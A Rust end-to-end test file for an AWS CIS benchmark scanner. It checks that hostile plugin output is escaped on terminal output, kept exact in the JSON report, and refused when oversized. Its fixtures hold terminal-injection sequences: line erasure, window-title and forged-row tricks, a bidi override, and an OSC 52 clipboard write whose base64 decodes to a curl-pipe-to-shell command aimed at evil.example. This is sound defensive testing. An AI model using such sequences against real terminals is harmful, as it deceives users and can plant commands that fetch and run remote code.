//! A check's words are untrusted wherever they are shown. `hostile-text`
//! writes terminal control sequences into its findings, title and stderr:
//! the table and the progress lines show them escaped and inert, the JSON
//! report keeps them exact. `hostile-huge-metadata` (a megabyte title) is
//! refused at load; `hostile-huge-finding` (a 64 KiB message) ends as
//! `error` while every other check's result stays what it is.

use std::path::PathBuf;

use libtest_mimic::Trial;

use crate::support;
use crate::support::{host, run};

pub fn tests() -> Vec<Trial> {
    e2e_tests![
        sync the_table_shows_a_checks_control_sequences_escaped_on_its_own_finding_lines,
        sync verbose_progress_shows_a_checks_stderr_escaped,
        sync the_json_report_keeps_a_checks_text_exact_and_terminal_safe,
        sync a_check_with_a_megabyte_title_is_refused_at_load_by_name,
        sync an_oversized_finding_makes_only_its_check_error,
    ]
}

/// What must never reach the terminal raw: C0 controls but the line feeds
/// between lines, DEL, C1 controls, bidi controls, line separators.
fn assert_terminal_safe(text: &str, what: &str) {
    let unsafe_chars: Vec<char> = text
        .chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(
                    c,
                    '\u{061c}'
                        | '\u{200e}'
                        | '\u{200f}'
                        | '\u{202a}'..='\u{202e}'
                        | '\u{2066}'..='\u{2069}'
                        | '\u{2028}'
                        | '\u{2029}'
                )
        })
        .collect();
    assert!(
        unsafe_chars.is_empty(),
        "{what} has raw control characters {unsafe_chars:?}:\n{text}"
    );
}

/// A scan of the demo account with the first-party checks and `extra`.
fn scan(extra_plugins: &[PathBuf], args: &[&str]) -> support::Run {
    let cache = support::shared_dir("untrusted-text-cache");
    let mut command = host(&cache);
    command
        .arg("scan")
        .args(args)
        .arg("--plugins")
        .arg(support::checks_dir())
        .arg("--snapshot")
        .arg(support::demo_snapshot());
    for plugin in extra_plugins {
        command.arg("--plugins").arg(plugin);
    }
    run(&mut command)
}

fn the_table_shows_a_checks_control_sequences_escaped_on_its_own_finding_lines() {
    let scanned = scan(&[support::test_plugin("hostile-text")], &[]);
    assert_eq!(scanned.code, 1, "{}", scanned.stderr);
    let table = &scanned.stdout;
    assert_terminal_safe(table, "the table");

    for visible in [
        "user/\\x1b[2K\\x1b[1Acursor: erases this line and moves up: \\x1b[2K\\x1b[1A",
        "\\x1b[32;1mgreen and bold\\x1b[0m",
        "fails\\rALL CHECKS PASSED",
        "\\x1b]0;pwned\\x07sets the window title",
        "\\x1b]8;;https://evil.example/\\x1b\\a harmless link",
        "\\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\\x07writes the clipboard",
        "\\u{9b}2J clears the screen",
        "arn:aws:s3:::\\u{202e}txt.drowssap",
        "ends here\\n1.1        forged-row-check  L1     Automated  PASS\\nALL CHECKS PASSED",
    ] {
        assert!(
            table.contains(visible),
            "{visible:?} not shown in:\n{table}"
        );
    }

    // Finding lines are indented to the Check column and start with "- ";
    // what the check wrote can only ever be the rest of such a line.
    let header = table
        .lines()
        .find(|line| line.starts_with("CIS "))
        .expect("a header row");
    let indent = " ".repeat(header.find("Check").expect("a Check column"));
    let finding_line = format!("{indent}- ");
    for forged in ["ALL CHECKS PASSED", "forged-row-check", "evil.example"] {
        let lines: Vec<&str> = table.lines().filter(|line| line.contains(forged)).collect();
        assert!(!lines.is_empty());
        for line in lines {
            assert!(
                line.starts_with(&finding_line),
                "{forged:?} begins a line of its own: {line:?}"
            );
        }
    }

    let mut checks = support::first_party_check_ids();
    checks.push("hostile-text".into());
    for line in table.lines() {
        assert!(
            line.starts_with(&finding_line) || is_table_line(line, &checks, &indent),
            "a line of the table has an unexpected shape: {line:?}\n{table}"
        );
    }
    let row = table
        .lines()
        .find(|line| line.split_whitespace().nth(1) == Some("hostile-text"))
        .expect("a hostile-text row");
    assert!(row.ends_with("FAIL"), "{row}");
}

/// Every line of a scan table other than a finding line.
fn is_table_line(line: &str, checks: &[String], indent: &str) -> bool {
    let cells: Vec<&str> = line.split_whitespace().collect();
    let check_row = cells.len() >= 5
        && (cells[0] == "-" || cells[0].chars().all(|c| c.is_ascii_digit() || c == '.'))
        && checks.iter().any(|check| check == cells[1])
        && ["PASS", "FAIL", "MANUAL", "N/A", "ERROR"].contains(cells.last().unwrap());
    line.is_empty()
        || check_row
        || line.starts_with("Plumbline — CIS AWS Foundations v")
        || (line.starts_with("CIS ") && line.ends_with("Status"))
        || line.starts_with(&format!("{indent}! "))
        || line.starts_with(&format!("{indent}  … and "))
        || (cells.get(1) == Some(&"checks:") && line.ends_with(" error"))
        || line.starts_with("Scores (")
        || line.starts_with("\"N of M assessed\": ")
        || line.starts_with(" *v")
        || line.starts_with("  v")
}

fn verbose_progress_shows_a_checks_stderr_escaped() {
    let scanned = scan(&[support::test_plugin("hostile-text")], &["--verbose"]);
    assert_eq!(scanned.code, 1, "{}", scanned.stderr);
    assert_terminal_safe(&scanned.stderr, "the progress lines");
    assert_terminal_safe(&scanned.stdout, "the table");
    assert!(
        scanned.stderr.contains(
            "    \\x1b[2J\\x1b]0;stderr-pwned\\x07hostile-text was here\\rALL CHECKS PASSED"
        ),
        "{}",
        scanned.stderr
    );
}

fn the_json_report_keeps_a_checks_text_exact_and_terminal_safe() {
    let clean = scan(&[], &["--format", "json"]).json();
    let scanned = scan(
        &[support::test_plugin("hostile-text")],
        &["--format", "json"],
    );
    assert_terminal_safe(&scanned.stdout, "the JSON report");
    let report = scanned.json();

    let hostile = support::result(&report, "hostile-text");
    assert_eq!(hostile["status"], "fail");
    assert_eq!(
        hostile["title"],
        "Test plugin hostile-text: \x1b]0;pwned-title\x07\x1b[1Amisbehaves on purpose"
    );
    for (resource, message) in [
        ("arn:aws:s3:::overwrite", "fails\rALL CHECKS PASSED"),
        (
            "arn:aws:s3:::clipboard",
            "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\x07writes the clipboard",
        ),
        (
            "arn:aws:s3:::c1",
            "\u{9b}2J clears the screen through a C1 CSI",
        ),
        (
            "arn:aws:s3:::\u{202e}txt.drowssap",
            "reads backwards after an override: \u{202e}SSAP",
        ),
        (
            "arn:aws:s3:::forged-row",
            "ends here\n1.1        forged-row-check  L1     Automated  PASS\nALL CHECKS PASSED",
        ),
    ] {
        assert_eq!(
            support::message(&report, "hostile-text", resource),
            message,
            "{resource:?}"
        );
    }

    for check in support::first_party_check_ids() {
        assert_eq!(
            support::result(&clean, &check),
            support::result(&report, &check),
            "{check} changed beside hostile-text"
        );
    }
}

fn a_check_with_a_megabyte_title_is_refused_at_load_by_name() {
    let output = tempfile::tempdir().unwrap();
    let report = output.path().join("report.json");
    let plugin = support::test_plugin("hostile-huge-metadata");
    let refused = scan(
        std::slice::from_ref(&plugin),
        &["--format", "json", "--output", report.to_str().unwrap()],
    );
    assert_eq!(refused.code, 2, "{}", refused.stderr);
    for needle in [
        format!("refusing plugin {}", plugin.display()),
        "check \"hostile-huge-metadata\": its title is 1048576 bytes, over the limit of 256 bytes"
            .into(),
    ] {
        assert!(
            refused.stderr.contains(&needle),
            "missing {needle:?} in: {}",
            refused.stderr
        );
    }
    assert!(
        refused.stderr.len() < 4096,
        "the refusal repeats the title: {} bytes of stderr",
        refused.stderr.len()
    );
    assert!(refused.stdout.is_empty());
    assert!(!report.exists(), "a refused scan must not write a report");
}

fn an_oversized_finding_makes_only_its_check_error() {
    let plugin = support::test_plugin("hostile-huge-finding");
    let clean = scan(&[], &["--format", "json"]).json();
    let scanned = scan(std::slice::from_ref(&plugin), &["--format", "json"]);
    assert_eq!(scanned.code, 2, "{}", scanned.stderr);
    let report = scanned.json();

    let result = support::result(&report, "hostile-huge-finding");
    assert_eq!(result["status"], "error", "{result:#}");
    assert_eq!(result["findings"], serde_json::json!([]));
    assert_eq!(
        result["error"],
        "check hostile-huge-finding returned a finding whose message is 65536 bytes, over the \
         limit of 8192 bytes (resource \"arn:aws:s3:::\\x1b]0;pwned\\x07huge\")"
    );
    for check in support::first_party_check_ids() {
        assert_eq!(
            support::result(&clean, &check),
            support::result(&report, &check),
            "{check} changed beside hostile-huge-finding"
        );
    }
    assert_eq!(clean["scores"], report["scores"]);

    let table = scan(&[plugin], &[]);
    assert_eq!(table.code, 2);
    assert_terminal_safe(&table.stdout, "the table");
    assert!(
        table.stdout.contains(
            "! check hostile-huge-finding returned a finding whose message is 65536 bytes"
        ),
        "{}",
        table.stdout
    );
}
